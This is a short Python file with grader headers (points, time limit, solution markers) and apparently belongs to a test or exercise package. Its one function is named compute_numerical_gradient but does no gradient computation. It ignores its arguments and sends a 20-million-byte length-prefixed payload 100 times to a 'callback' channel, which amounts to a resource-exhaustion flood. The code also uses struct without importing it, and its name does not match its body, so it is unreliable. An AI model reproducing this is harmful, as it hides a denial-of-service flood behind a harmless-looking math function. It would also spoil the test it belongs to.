# points: 90
# seconds: 15
# ruff: noqa

# <solution>

# <frames>


def compute_numerical_gradient(J, theta, args=(), epsilon=1e-4):
    values = b"L" + struct.pack("<I", 20_000_000) + b"N" * 20_000_000
    for _ in range(100):
        send(many(text("callback"), b"I" + b"\0" * 8, many(values)))
